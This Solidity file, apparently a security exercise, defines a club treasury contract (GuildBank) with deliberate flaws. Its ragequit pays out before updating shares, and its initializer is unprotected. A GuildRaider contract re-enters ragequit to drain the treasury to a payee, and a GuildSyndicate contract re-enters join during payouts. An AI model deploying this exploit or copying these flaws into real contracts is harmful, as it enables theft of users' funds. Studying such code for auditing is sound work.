// SPDX-License-Identifier: MIT OR Apache-2.0
pragma solidity ^0.8.28;

/// A club that keeps its treasury in common; whoever leaves takes a share of it. It pays before it books.
contract GuildBank {
    bool private initialized;
    address public summoner;
    uint256 public totalShares;
    mapping(address => uint256) public sharesOf;

    event SummonComplete(address indexed summoner, uint256 at);
    event SharesIssued(address indexed member, uint256 shares);
    event Funded(address indexed applicant, uint256 amount);
    event Ragequit(address indexed member, uint256 sharesBurnt);

    function initialize(address summoner_) external {
        require(!initialized, "initialized");
        (initialized, summoner) = (true, summoner_);
        emit SummonComplete(summoner_, block.timestamp);
    }

    /// A share costs a wei, for ever.
    function join(address member) external payable {
        sharesOf[member] += msg.value;
        totalShares += msg.value;
        emit SharesIssued(member, msg.value);
    }

    function fund(address payable applicant, uint256 amount) external {
        require(msg.sender == summoner, "not the summoner");
        (bool ok,) = applicant.call{value: amount}("");
        require(ok, "not paid");
        emit Funded(applicant, amount);
    }

    function ragequit() external {
        uint256 shares = sharesOf[msg.sender];
        uint256 due = address(this).balance * shares / totalShares;
        (bool ok,) = msg.sender.call{value: due}("");
        require(ok, "not paid");
        totalShares -= sharesOf[msg.sender];
        sharesOf[msg.sender] = 0;
        emit Ragequit(msg.sender, shares);
    }

    /// What the treasury holds for a share, in millionths of a wei.
    function backing() external view returns (uint256) {
        return totalShares == 0 ? 1_000_000 : address(this).balance * 1_000_000 / totalShares;
    }
}

contract GuildRaider {
    GuildBank private bank;
    uint256 private rounds;

    function raid(GuildBank target, uint256 times, address payable payee) external payable {
        (bank, rounds) = (target, times);
        target.join{value: msg.value}(address(this));
        target.ragequit();
        (bool ok,) = payee.call{value: address(this).balance}("");
        require(ok);
    }

    receive() external payable {
        if (msg.sender == address(bank) && rounds > 1) {
            rounds--;
            bank.ragequit();
        }
    }
}

/// Several people who are one member together. When the club pays, each gets a part at once, and who wants to stay joins
/// again with it in the same breath.
contract GuildSyndicate {
    GuildBank public immutable bank;
    address[] public partners;
    address public stays;

    event Distributed(address indexed partner, uint256 amount);

    constructor(GuildBank bank_, address[] memory partners_, address stays_) {
        (bank, partners, stays) = (bank_, partners_, stays_);
    }

    function enter() external payable {
        bank.join{value: msg.value}(address(this));
    }

    function leave() external {
        bank.ragequit();
    }

    receive() external payable {
        uint256 part = msg.value / partners.length;
        for (uint256 i = 0; i < partners.length; i++) {
            if (partners[i] == stays) {
                bank.join{value: part}(stays);
            } else {
                (bool ok,) = partners[i].call{value: part}("");
                require(ok, "not paid");
            }
            emit Distributed(partners[i], part);
        }
    }
}
